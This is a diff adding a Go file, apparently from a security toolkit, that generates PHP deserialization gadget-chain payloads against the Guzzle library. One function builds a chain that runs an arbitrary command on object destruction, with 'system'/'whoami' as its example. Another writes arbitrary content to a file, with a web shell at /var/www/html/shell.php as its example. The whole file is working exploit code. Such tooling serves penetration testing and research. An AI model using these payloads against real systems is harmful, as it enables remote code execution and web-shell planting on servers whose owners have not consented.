@@ -0,0 +1,61 @@
+package phpggc
+
+import (
+	"github.com/yaklang/yaklang/common/phpserx"
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+// GetGuzzleRCE1Payload generate Guzzle/RCE1 chain, FnStream calls _fn_close in __destruct,
+// which is HandlerStack::resolve and calls function(parameter)
+// Example:
+// ```
+// payload = phpggc.GetGuzzleRCE1Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetGuzzleRCE1Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	stack := phpserx.NewPHPObject(`GuzzleHttp\HandlerStack`,
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\HandlerStack`, "handler", phpserx.NewPHPString(parameter)),
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\HandlerStack`, "stack", phpserx.NewPHPList(phpserx.NewPHPList(phpserx.NewPHPString(function)))),
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\HandlerStack`, "cached", phpserx.NewPHPBool(false)),
+	)
+	stream := phpserx.NewPHPObject(`GuzzleHttp\Psr7\FnStream`,
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\Psr7\FnStream`, "methods", phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("close"), callable(stack, "resolve")),
+		)),
+	)
+	// _fn_close is the copy of methods['close'], the HandlerStack in it refers to the serialized one
+	stream.Properties = append(stream.Properties,
+		phpserx.NewPHPProperty("_fn_close", callable(phpserx.NewPHPRef(phpserx.FindRefIndex(stream, stack)), "resolve")),
+	)
+	return newPayload("Guzzle/RCE1", stream), nil
+}
+
+// GetGuzzleFW1Payload generate Guzzle/FW1 chain, FileCookieJar saves the cookies to path in __destruct,
+// the content is in the json encoded cookie, so the content should be able to run in json like php code
+// Example:
+// ```
+// payload = phpggc.GetGuzzleFW1Payload("/var/www/html/shell.php", "<?php phpinfo();?>")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetGuzzleFW1Payload(path string, content string) (*Payload, error) {
+	if path == "" {
+		return nil, utils.Error("file path is empty")
+	}
+	cookie := phpserx.NewPHPObject(`GuzzleHttp\Cookie\SetCookie`,
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\Cookie\SetCookie`, "data", phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("Expires"), phpserx.NewPHPInt(1)),
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("Discard"), phpserx.NewPHPBool(false)),
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("Value"), phpserx.NewPHPString(content)),
+		)),
+	)
+	jar := phpserx.NewPHPObject(`GuzzleHttp\Cookie\FileCookieJar`,
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\Cookie\CookieJar`, "cookies", phpserx.NewPHPList(cookie)),
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\Cookie\CookieJar`, "strictMode", phpserx.NewPHPNull()),
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\Cookie\FileCookieJar`, "filename", phpserx.NewPHPString(path)),
+		phpserx.NewPHPPrivateProperty(`GuzzleHttp\Cookie\FileCookieJar`, "storeSessionCookies", phpserx.NewPHPBool(true)),
+	)
+	return newPayload("Guzzle/FW1", jar), nil
+}